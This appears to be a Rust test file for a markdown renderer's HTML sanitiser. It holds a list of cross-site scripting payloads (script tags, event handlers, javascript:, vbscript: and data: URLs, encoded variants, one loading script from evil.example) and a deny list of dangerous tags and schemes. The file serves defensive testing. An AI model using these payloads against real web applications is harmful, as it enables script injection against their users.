//! Hostile markdown: the preview and the HTML export never carry script, an event handler or a
//! dangerous URL, and code spans still show their text.

use std::collections::HashMap;

use planform::core::html::{LinkRefs, markdown_to_html, standalone_html};
use planform::core::import_markdown;

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<style>@import 'javascript:alert(1)';</style>",
    "<img src=x onerror=alert(1)//",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x](\u{1}javascript:alert(1))",
    "[x](java\u{0}script:alert(1))",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- [ ] <script>alert(1)</script>",
    "> <iframe srcdoc=\"<script>alert(1)</script>\">",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "<p onclick=alert(1)>x</p>",
    "<kbd onmouseover=alert(1)>k</kbd>",
];

/// Every real tag in `html` (a `<` followed by a letter or `/`).
fn tags(html: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = html;
    while let Some(i) = rest.find('<') {
        let after = &rest[i + 1..];
        if after.starts_with(|c: char| c.is_ascii_alphabetic() || c == '/') {
            let end = after.find('>').unwrap_or(after.len());
            out.push(after[..end].to_ascii_lowercase());
        }
        rest = after;
    }
    out
}

fn assert_safe(html: &str, payload: &str) {
    for tag in tags(html) {
        if tag == "input type=\"checkbox\" disabled aria-label=\"not done\""
            || tag == "input type=\"checkbox\" disabled checked aria-label=\"done\""
        {
            continue; // task list checkboxes rendered by us
        }
        let name: String = tag
            .trim_start_matches('/')
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric())
            .collect();
        assert!(
            !matches!(
                name.as_str(),
                "script"
                    | "iframe"
                    | "object"
                    | "embed"
                    | "svg"
                    | "math"
                    | "style"
                    | "link"
                    | "meta"
                    | "base"
                    | "form"
                    | "input"
                    | "button"
                    | "body"
            ),
            "dangerous <{tag}> for {payload:?}:\n{html}"
        );
        assert!(
            !tag.contains(" on"),
            "event handler in <{tag}> for {payload:?}"
        );
        for attr in ["href=", "src=", "action=", "data="] {
            if let Some(i) = tag.find(attr) {
                let value = tag[i + attr.len()..].trim_start_matches(['"', '\'']);
                let compact: String = value
                    .chars()
                    .filter(|c| !c.is_whitespace() && !c.is_control())
                    .collect();
                assert!(
                    !compact.starts_with("javascript:")
                        && !compact.starts_with("vbscript:")
                        && !compact.starts_with("data:text")
                        && !compact.starts_with("data:image/svg"),
                    "dangerous URL in <{tag}> for {payload:?}"
                );
            }
        }
    }
}

#[test]
fn preview_of_hostile_markdown_is_safe() {
    for payload in PAYLOADS {
        let html = markdown_to_html(payload, &LinkRefs::collect(payload), &mut HashMap::new());
        assert_safe(&html, payload);
    }
}

#[test]
fn export_of_hostile_plan_is_safe() {
    let doc = format!(
        "# Technical Plan: <script>alert(1)</script>\n\n## Problem Statement\n\n{}\n",
        PAYLOADS.join("\n\n")
    );
    let page = standalone_html(&import_markdown(&doc));
    assert!(
        !page.to_ascii_lowercase().contains("<script"),
        "script in export"
    );
    let head_end = page.find("<body>").unwrap();
    assert!(page[..head_end].contains("Content-Security-Policy"));
    assert!(page[..head_end].contains("default-src 'none'"));
    let body = &page[head_end + "<body>".len()..page.rfind("</body>").unwrap()];
    assert_safe(body, "whole document");
}

#[test]
fn code_spans_show_their_text() {
    let html = markdown_to_html(
        "`<script>alert(1)</script>`",
        &LinkRefs::default(),
        &mut HashMap::new(),
    );
    assert!(
        html.contains("<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>"),
        "{html}"
    );
}

#[test]
fn safe_links_and_raster_images_stay() {
    let md = "[ok](https://example.com/a?b=1) [mail](mailto:a@example.com) [rel](../x.md) ![png](data:image/png;base64,iVBORw0KGgo=)";
    let html = markdown_to_html(md, &LinkRefs::default(), &mut HashMap::new());
    assert!(html.contains("href=\"https://example.com/a?b=1\""));
    assert!(html.contains("href=\"mailto:a@example.com\""));
    assert!(html.contains("href=\"../x.md\""));
    assert!(html.contains("src=\"data:image/png;base64,iVBORw0KGgo=\""));
}
